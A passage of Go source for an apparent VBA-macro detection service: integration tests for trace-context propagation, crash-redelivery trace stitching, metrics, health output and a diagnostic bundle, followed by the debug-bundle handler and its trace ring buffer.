// request boundary: a valid incoming traceparent is joined (same trace
// ID, fresh span ID), a missing or malformed one is replaced by a minted
// trace, and the response always carries a valid traceparent.
func TestTraceparentMiddleware(t *testing.T) {
	_, ts := newTestServer(t, quietConfig())

	get := func(traceparent string) string {
		t.Helper()
		req, err := http.NewRequest(http.MethodGet, ts.URL+"/healthz", nil)
		if err != nil {
			t.Fatal(err)
		}
		if traceparent != "" {
			req.Header.Set("traceparent", traceparent)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		return resp.Header.Get("traceparent")
	}

	// No incoming context: a fresh valid trace is minted.
	minted, err := telemetry.ParseTraceparent(get(""))
	if err != nil || !minted.IsValid() {
		t.Fatalf("minted traceparent invalid: %v", err)
	}
	// Valid incoming context: joined, with the server's own span ID.
	joined, err := telemetry.ParseTraceparent(get(callerTraceparent))
	if err != nil {
		t.Fatal(err)
	}
	if joined.TraceID != callerTraceID {
		t.Fatalf("joined trace ID = %q, want %q", joined.TraceID, callerTraceID)
	}
	if joined.SpanID == "00f067aa0ba902b7" {
		t.Fatal("server echoed the caller's span ID instead of minting its own")
	}
	// Malformed incoming context: replaced, not propagated.
	replaced, err := telemetry.ParseTraceparent(get("00-zzzz-zzzz-01"))
	if err != nil || replaced.TraceID == callerTraceID || !replaced.IsValid() {
		t.Fatalf("malformed traceparent not replaced: %+v err=%v", replaced, err)
	}
}

// TestTraceStitchedAcrossCrashRedelivery is the end-to-end golden test
// for async trace propagation: a traced submission is accepted by one
// process (accept-only, so the job is pure journal state), that process
// "crashes", a second process replays the journal, fails the first
// deliveries (no model loaded), hot-loads the model, and publishes on a
// redelivery — and the published result plus its Chrome trace export must
// still carry the original caller's single trace ID.
func TestTraceStitchedAcrossCrashRedelivery(t *testing.T) {
	fixture(t)
	dir := t.TempDir()
	cfg1 := quietConfig()
	cfg1.Intake = IntakeConfig{Dir: dir, Workers: -1, NoSync: true}
	srv1 := New(testFixture.det, cfg1)
	if err := srv1.StartIntake(); err != nil {
		t.Fatal(err)
	}
	ts1 := httptest.NewServer(srv1.Handler())

	req, err := http.NewRequest(http.MethodPost, ts1.URL+"/v1/submit?trace=1",
		bytes.NewReader(testFixture.macroDoc))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/octet-stream")
	req.Header.Set("traceparent", callerTraceparent)
	req.Header.Set("X-Request-ID", "req-stitch-1")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	var sr SubmitResponse
	err = json.NewDecoder(resp.Body).Decode(&sr)
	resp.Body.Close()
	if err != nil || resp.StatusCode != http.StatusAccepted {
		t.Fatalf("submit: status=%d err=%v", resp.StatusCode, err)
	}
	// The submit response's traceparent is the server span the journaled
	// job rides under — the worker's spans must parent under it.
	submitTC, err := telemetry.ParseTraceparent(resp.Header.Get("traceparent"))
	if err != nil || submitTC.TraceID != callerTraceID {
		t.Fatalf("submit traceparent = %+v err=%v", submitTC, err)
	}

	// Crash: the accepting process goes away; only the journal survives.
	ts1.Close()
	srv1.stopIntake()

	// Restart without a model: deliveries fail transiently (and are
	// redelivered) until the model is hot-loaded.
	cfg2 := quietConfig()
	cfg2.ModelPath = testFixture.modelPath
	cfg2.Intake = IntakeConfig{
		Dir: dir, Workers: 2, NoSync: true,
		MaxAttempts: 1000, RetryBackoff: time.Millisecond,
		VisibilityTimeout: time.Second,
	}
	srv2 := New(nil, cfg2)
	if err := srv2.StartIntake(); err != nil {
		t.Fatal(err)
	}
	ts2 := httptest.NewServer(srv2.Handler())
	t.Cleanup(func() {
		ts2.Close()
		srv2.stopIntake()
	})

	// Require at least one genuine redelivery before the model appears, so
	// the published attempt is provably ≥ 2.
	deadline := time.Now().Add(10 * time.Second)
	for srv2.intake.q.Stats().Redelivered < 1 {
		if time.Now().After(deadline) {
			t.Fatal("job was never redelivered")
		}
		time.Sleep(5 * time.Millisecond)
	}
	if err := srv2.Reload(); err != nil {
		t.Fatal(err)
	}

	res := pollTicket(t, ts2.URL, sr.Ticket, 60*time.Second)
	if res.Status != "done" {
		t.Fatalf("result: %+v", res)
	}
	if res.Attempt < 2 {
		t.Fatalf("attempt = %d, want >= 2 (a redelivery)", res.Attempt)
	}
	if res.TraceID != callerTraceID {
		t.Fatalf("published trace ID = %q, want %q", res.TraceID, callerTraceID)
	}
	if res.RequestID != "req-stitch-1" {
		t.Fatalf("published request ID = %q", res.RequestID)
	}
	if res.Trace == nil || res.Trace.TraceID != callerTraceID {
		t.Fatalf("worker trace did not join the caller's trace: %+v", res.Trace)
	}
	if res.Trace.ParentSpanID != submitTC.SpanID {
		t.Fatalf("worker span parents under %q, want the submit server span %q",
			res.Trace.ParentSpanID, submitTC.SpanID)
	}

	// Chrome export: every event of the stitched tree carries the one
	// original trace ID.
	var buf bytes.Buffer
	if err := telemetry.WriteChromeTrace(&buf, []*telemetry.Trace{res.Trace}); err != nil {
		t.Fatal(err)
	}
	var chrome struct {
		TraceEvents []struct {
			Args map[string]any `json:"args"`
		} `json:"traceEvents"`
	}
	if err := json.Unmarshal(buf.Bytes(), &chrome); err != nil {
		t.Fatal(err)
	}
	if len(chrome.TraceEvents) == 0 {
		t.Fatal("chrome export has no events")
	}
	for i, ev := range chrome.TraceEvents {
		if ev.Args["trace_id"] != callerTraceID {
			t.Fatalf("event %d trace_id = %v, want %q", i, ev.Args["trace_id"], callerTraceID)
		}
	}
}

// TestObservabilityMetricsAndReport checks the drift/SLO/build-info
// surface: per-channel score contributions in the scan report, the drift
// gauge + score histogram + SLO gauges + build info in /metrics, and the
// drift detail in /healthz.
func TestObservabilityMetricsAndReport(t *testing.T) {
	_, ts := newTestServer(t, quietConfig())
	resp, sr := postScan(t, ts.URL, testFixture.macroDoc)
	if resp.StatusCode != http.StatusOK || sr.Report == nil || len(sr.Report.Macros) == 0 {
		t.Fatalf("scan: status=%d report=%+v", resp.StatusCode, sr.Report)
	}
	if sr.TraceID == "" {
		t.Fatal("scan response has no trace_id")
	}
	for _, m := range sr.Report.Macros {
		if len(m.Channels) == 0 {
			t.Fatalf("macro %q has no channel contributions", m.Module)
		}
		if m.Channels[0].Channel != "overall" {
			t.Fatalf("RF model channel = %q, want overall", m.Channels[0].Channel)
		}
	}

	mresp, err := http.Get(ts.URL + "/metrics?format=prometheus")
	if err != nil {
		t.Fatal(err)
	}
	prom, err := io.ReadAll(mresp.Body)
	mresp.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	text := string(prom)
	for _, want := range []string{
		`model_drift_psi{channel="overall"}`,
		`vbadetect_build_info{`,
		`go_version=`,
		`slo_availability_ratio{window="5m"}`,
		`slo_availability_burn_rate{window="1h"}`,
		"macro_score_bucket",
		"uptime_seconds",
	} {
		if !strings.Contains(text, want) {
			t.Fatalf("/metrics missing %q", want)
		}
	}
	// The exposition must stay structurally valid with the new families.
	if _, err := telemetry.ParseExposition(prom); err != nil {
		t.Fatalf("exposition invalid: %v", err)
	}

	hresp, err := http.Get(ts.URL + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	var health struct {
		Status string `json:"status"`
		Drift  *struct {
			Status       string  `json:"status"`
			WorstChannel string  `json:"worst_channel"`
			WarnPSI      float64 `json:"warn_psi"`
		} `json:"drift"`
		SLO map[string]float64 `json:"slo"`
	}
	err = json.NewDecoder(hresp.Body).Decode(&health)
	hresp.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	if hresp.StatusCode != http.StatusOK || health.Status != "ok" {
		t.Fatalf("healthz = %d %+v", hresp.StatusCode, health)
	}
	if health.Drift == nil || health.Drift.WorstChannel == "" || health.Drift.WarnPSI != 0.2 {
		t.Fatalf("healthz drift detail: %+v", health.Drift)
	}
	if _, ok := health.SLO["availability_5m"]; !ok {
		t.Fatalf("healthz slo detail: %+v", health.SLO)
	}
}

// TestDebugBundle downloads the diagnostic archive and checks it carries
// the expected sections, with a parseable metrics exposition inside.
func TestDebugBundle(t *testing.T) {
	_, ts := newIntakeServer(t, quietConfig())
	// One traced scan so the recent-traces ring has content.
	resp, err := http.Post(ts.URL+"/v1/scan?trace=1", "application/octet-stream",
		bytes.NewReader(testFixture.macroDoc))
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()

	bresp, err := http.Get(ts.URL + "/v1/admin/debug/bundle")
	if err != nil {
		t.Fatal(err)
	}
	defer bresp.Body.Close()
	if bresp.StatusCode != http.StatusOK {
		t.Fatalf("bundle status = %d", bresp.StatusCode)
	}
	gz, err := gzip.NewReader(bresp.Body)
	if err != nil {
		t.Fatal(err)
	}
	entries := map[string][]byte{}
	tr := tar.NewReader(gz)
	for {
		hdr, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		body, err := io.ReadAll(tr)
		if err != nil {
			t.Fatal(err)
		}
		entries[hdr.Name] = body
	}
	for _, want := range []string{
		"vbadetect-debug/config.json",
		"vbadetect-debug/health.json",
		"vbadetect-debug/slo.json",
		"vbadetect-debug/intake.json",
		"vbadetect-debug/metrics.json",
		"vbadetect-debug/metrics.prom",
		"vbadetect-debug/traces.json",
		"vbadetect-debug/traces.chrome.json",
		"vbadetect-debug/pprof/goroutine.txt",
		"vbadetect-debug/pprof/heap.pprof",
	} {
		if len(entries[want]) == 0 {
			t.Fatalf("bundle missing %s (have %d entries)", want, len(entries))
		}
	}
	if _, err := telemetry.ParseExposition(entries["vbadetect-debug/metrics.prom"]); err != nil {
		t.Fatalf("bundled exposition invalid: %v", err)
	}
	var traces []*telemetry.Trace
	if err := json.Unmarshal(entries["vbadetect-debug/traces.json"], &traces); err != nil {
		t.Fatal(err)
	}
	if len(traces) == 0 {
		t.Fatal("bundle carries no recent traces")
	}
}

// TestTicketRequestIDRoundTrip checks the plain (non-crash) async path
// carries the submitter's X-Request-ID into the published result.
func TestTicketRequestIDRoundTrip(t *testing.T) {
	fixture(t)
	_, ts := newIntakeServer(t, quietConfig())
	req, err := http.NewRequest(http.MethodPost, ts.URL+"/v1/submit",
		bytes.NewReader(testFixture.macroDoc))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("X-Request-ID", "rid-42")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	var sr SubmitResponse
	err = json.NewDecoder(resp.Body).Decode(&sr)
	resp.Body.Close()
	if err != nil || resp.StatusCode != http.StatusAccepted {
		t.Fatalf("submit: %d %v", resp.StatusCode, err)
	}
	res := pollTicket(t, ts.URL, sr.Ticket, 30*time.Second)
	if res.Status != "done" || res.RequestID != "rid-42" {
		t.Fatalf("result: status=%q request_id=%q", res.Status, res.RequestID)
	}
	if res.TraceID == "" {
		t.Fatal("async result has no trace ID (server should mint one at submit)")
	}
}
