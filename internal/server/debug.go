// The debug bundle: GET /v1/admin/debug/bundle streams a tar.gz
// snapshot of everything an operator wants attached to an incident
// ticket — effective config, both metric expositions, health and SLO
// state, intake/queue statistics, the most recent span trees (raw and as
// a Chrome trace), and pprof profiles. One curl replaces the usual
// "please also send /metrics, /healthz, a goroutine dump, ..." loop.
package server

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"net/http"
	"runtime/pprof"
	"sync"
	"time"

	"repro/internal/telemetry"
)

// traceRing retains the most recent finished span trees for the debug
// bundle. Fixed capacity, overwrite-oldest, safe for concurrent use.
type traceRing struct {
	mu   sync.Mutex
	buf  []*telemetry.Trace
	next int
	full bool
}

// newTraceRing builds a ring holding up to max traces (min 1).
func newTraceRing(max int) *traceRing {
	if max < 1 {
		max = 1
	}
	return &traceRing{buf: make([]*telemetry.Trace, max)}
}

// Add records one finished trace, evicting the oldest at capacity. Safe
// on a nil ring or a nil trace.
func (r *traceRing) Add(t *telemetry.Trace) {
	if r == nil || t == nil {
		return
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	r.buf[r.next] = t
	r.next = (r.next + 1) % len(r.buf)
	if r.next == 0 {
		r.full = true
	}
}

// Snapshot returns the retained traces, oldest first.
func (r *traceRing) Snapshot() []*telemetry.Trace {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	var out []*telemetry.Trace
	if r.full {
		out = append(out, r.buf[r.next:]...)
	}
	return append(out, r.buf[:r.next]...)
}

// handleDebugBundle streams the diagnostic archive. Every entry is
// best-effort: a failing section is replaced by an error note instead of
// aborting the download.
func (s *Server) handleDebugBundle(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/gzip")
	w.Header().Set("Content-Disposition", `attachment; filename="vbadetect-debug.tar.gz"`)
	now := time.Now()
	gz := gzip.NewWriter(w)
	tw := tar.NewWriter(gz)
	add := func(name string, body []byte) {
		hdr := &tar.Header{
			Name:    "vbadetect-debug/" + name,
			Mode:    0o644,
			Size:    int64(len(body)),
			ModTime: now,
		}
		if err := tw.WriteHeader(hdr); err != nil {
			return
		}
		_, _ = tw.Write(body)
	}
	addJSON := func(name string, v any) {
		body, err := json.MarshalIndent(v, "", "  ")
		if err != nil {
			add(name, []byte(fmt.Sprintf("marshal failed: %v\n", err)))
			return
		}
		add(name, append(body, '\n'))
	}

	addJSON("config.json", s.configView())
	addJSON("health.json", s.healthBody())
	if s.slo != nil {
		addJSON("slo.json", map[string]any{
			"5m": s.slo.Read(telemetry.SLOShortWindow),
			"1h": s.slo.Read(telemetry.SLOLongWindow),
		})
	}
	if s.intake != nil {
		addJSON("intake.json", s.intake.q.Stats())
	}

	var buf bytes.Buffer
	_ = s.metrics.Registry().WriteJSON(&buf)
	add("metrics.json", append([]byte(nil), buf.Bytes()...))
	buf.Reset()
	_ = s.metrics.Registry().WritePrometheus(&buf)
	add("metrics.prom", append([]byte(nil), buf.Bytes()...))

	traces := s.recent.Snapshot()
	addJSON("traces.json", traces)
	buf.Reset()
	_ = telemetry.WriteChromeTrace(&buf, traces)
	add("traces.chrome.json", append([]byte(nil), buf.Bytes()...))

	// Goroutines as readable text; heap/allocs in the binary format the
	// pprof tool expects.
	for _, p := range []struct {
		name    string
		profile string
		debug   int
	}{
		{"pprof/goroutine.txt", "goroutine", 1},
		{"pprof/heap.pprof", "heap", 0},
		{"pprof/allocs.pprof", "allocs", 0},
	} {
		prof := pprof.Lookup(p.profile)
		if prof == nil {
			continue
		}
		buf.Reset()
		if err := prof.WriteTo(&buf, p.debug); err != nil {
			add(p.name, []byte(fmt.Sprintf("profile failed: %v\n", err)))
			continue
		}
		add(p.name, append([]byte(nil), buf.Bytes()...))
	}

	_ = tw.Close()
	_ = gz.Close()
}

// configView is the effective configuration as it lands in the bundle —
// plain values only (loggers, audit sinks and such don't serialize).
func (s *Server) configView() map[string]any {
	c := s.cfg
	return map[string]any{
		"model_path":              c.ModelPath,
		"model_mmap":              c.ModelMmap,
		"classify_batch_window":   c.ClassifyBatchWindow.String(),
		"classify_batch_max_rows": c.ClassifyBatchMaxRows,
		"max_body_bytes":          c.MaxBodyBytes,
		"max_in_flight":           c.MaxInFlight,
		"queue_wait":              c.QueueWait.String(),
		"scan_timeout":            c.ScanTimeout.String(),
		"batch_workers":           c.BatchWorkers,
		"max_batch_files":         c.MaxBatchFiles,
		"cache_entries":           c.CacheEntries,
		"cache_bytes":             c.CacheBytes,
		"drift_warn_psi":          c.DriftWarnPSI,
		"drift_window":            c.DriftWindow,
		"slo_availability_target": c.SLOAvailabilityTarget,
		"slo_latency_target":      c.SLOLatencyTarget,
		"slo_latency_threshold":   c.SLOLatencyThreshold.String(),
		"debug_trace_buffer":      c.DebugTraceBuffer,
		"intake_dir":              c.Intake.Dir,
		"intake_workers":          c.Intake.Workers,
	}
}
